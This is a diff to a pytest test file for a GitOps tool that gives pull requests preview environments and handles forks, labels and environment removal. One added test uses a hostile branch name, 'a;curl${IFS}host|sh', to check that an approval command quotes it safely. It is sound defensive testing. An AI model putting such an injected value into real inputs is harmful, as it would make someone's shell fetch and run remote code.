@@ -3,7 +3,9 @@
 import base64
 import json
 import re
+import shlex
 from collections.abc import Mapping
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any, cast
@@ -20,6 +22,7 @@ from doks_gitops.promotion.pull_requests import (
     CHART,
     Labeled,
     NoEnvironments,
+    Review,
     chart_of_limits,
     check_repository,
     read_settings,
@@ -212,7 +215,7 @@ def test_the_environments_are_gone_before_argocd_which_deletes_them(result: Run)
 def test_all_of_it_is_deleted_before_the_cluster_is_replaced(result: Run) -> None:
     cluster = result.one("KubernetesCluster").urn
     own = [item for item in result.of_packages("kubernetes") if "pull-requests" in item.name]
-    assert len(own) == 9
+    assert len(own) == 11
     for item in own:
         assert cluster in item.input_dependencies["metadata"], item.name
 
@@ -244,7 +247,8 @@ def test_the_policies_allow_the_environments_outside_of_production(result: Run, 
 def pull(
     number: int, *, fork: str | None = None, hours: float = 1, own: str | None = "a" * 40
 ) -> Labeled:
-    pull_request = PullRequest(number, f"branch-{number}", "a" * 40, frozenset({"preview"}), fork)
+    labels = frozenset({"preview"})
+    pull_request = PullRequest(number, f"branch-{number}", "a" * 40, labels, fork, NOW)
     return Labeled(pull_request, NOW - timedelta(hours=hours), own)
 
 
@@ -261,14 +265,25 @@ def test_only_so_many_pull_requests_keep_their_label_and_the_first_ones_do() -> 
     assert [*refusals([pull(1, hours=25), pull(2), pull(3)], settings, NOW)] == [1]
 
 
-@pytest.mark.parametrize("own", [None, "b" * 40])
-def test_a_fork_has_no_environment_unless_its_commit_is_in_a_branch_of_the_repository(
-    own: str | None,
-) -> None:
-    unapproved, approved = pull(1, fork="stranger/monorepo", own=own), pull(2, fork="x/monorepo")
+def test_a_fork_has_no_environment_unless_its_commit_is_in_a_branch_of_the_repository() -> None:
+    unapproved, approved = pull(1, fork="stranger/monorepo", own=None), pull(2, fork="x/monorepo")
     reasons = refusals([unapproved, approved], SETTINGS, NOW)
     assert [*reasons] == [1]
-    assert f"git push origin {'a' * 40}:refs/heads/branch-1" in reasons[1]
+    assert f"git push origin {'a' * 40}:refs/heads/branch-1\n" in reasons[1]
+
+
+def test_a_commit_of_a_fork_is_never_to_be_pushed_to_a_branch_that_the_repository_has() -> None:
+    """The fork's branch is often called main."""
+    unapproved = pull(1, fork="stranger/monorepo", own="b" * 40)
+    assert "git push" not in refusals([unapproved], SETTINGS, NOW)[1]
+
+
+def test_a_branch_name_of_a_fork_is_no_command_for_the_shell_of_who_approves_it() -> None:
+    unapproved = pull(1, fork="stranger/monorepo", own=None)
+    hostile = replace(unapproved.pull_request, branch="a;curl${IFS}host|sh")
+    reason = refusals([replace(unapproved, pull_request=hostile)], SETTINGS, NOW)[1]
+    [command] = re.findall(r"^\$ (git push .*)$", reason, re.MULTILINE)
+    assert shlex.split(command)[-1] == f"{'a' * 40}:refs/heads/a;curl${{IFS}}host|sh"
 
 
 def application(**changes: Any) -> Application:
@@ -314,7 +329,8 @@ def test_an_environment_is_gone_only_when_its_limits_are_gone_too() -> None:
     assert text(limits, kept=None).startswith("pending: The environment `pr-1` is being removed")
     assert text(kept=None) == "settled: The environment `pr-1` is gone."
     refused = text(limits, kept=None, reason="enough")
-    assert refused == "pending: This pull request has no environment: enough"
+    assert refused == "pending: The environment is being removed: enough"
+    assert text(kept=None, reason="enough") == "settled: There is no environment: enough"
 
 
 class FakeRepository:
@@ -354,10 +370,11 @@ class FakeCluster:
 
     def __init__(self, *moments: list[Application]) -> None:
         self._moments = [*moments]
+        self.errors: dict[str, str] = {}
 
     def delivery(self) -> Delivery:
         moment = self._moments.pop(0) if len(self._moments) > 1 else self._moments[0]
-        return Delivery(moment)
+        return Delivery(moment, self.errors)
 
 
 def reviewed(
@@ -365,9 +382,9 @@ def reviewed(
     cluster: FakeCluster,
     monkeypatch: pytest.MonkeyPatch,
     **options: Any,
-) -> None:
+) -> Review:
     monkeypatch.setattr("doks_gitops.promotion.pull_requests.POLL_SECONDS", 0)
-    review(
+    return review(
         cast(Repository, repository),
         cast(Cluster, cluster),
         SETTINGS,
@@ -401,6 +418,25 @@ def test_every_refused_pull_request_loses_its_label_whichever_one_is_told_of(
     everybody = FakeRepository(recent(1), recent(2, fork="stranger/monorepo", own=None))
     reviewed(everybody, FakeCluster([application()]), monkeypatch)
     assert [number for number, _ in everybody.comments] == [1, 2]
+
+
+def test_an_environment_that_nothing_asks_for_is_told_until_it_is_gone(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    cluster = FakeCluster([application(name="pr-7-limits"), application(name="dev-pr-8")])
+    cluster.errors["dev-pull-requests"] = "401"
+    result = reviewed(FakeRepository(), cluster, monkeypatch)
+    assert [(item.number, item.settled) for item in result.reports] == [(7, False)]
+    assert result.errors == {"dev-pull-requests": "401"}
+
+
+def test_a_label_of_which_no_event_is_known_is_as_old_as_its_pull_request(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    repository = FakeRepository(recent(1))
+    monkeypatch.setattr(repository, "labeled_at", lambda number, label: None)
+    reviewed(repository, FakeCluster([]), monkeypatch)
+    assert repository.removed == [1], "the pull request is older than the time to live"
 
 
 def test_a_pull_request_without_an_environment_gets_no_new_comment(
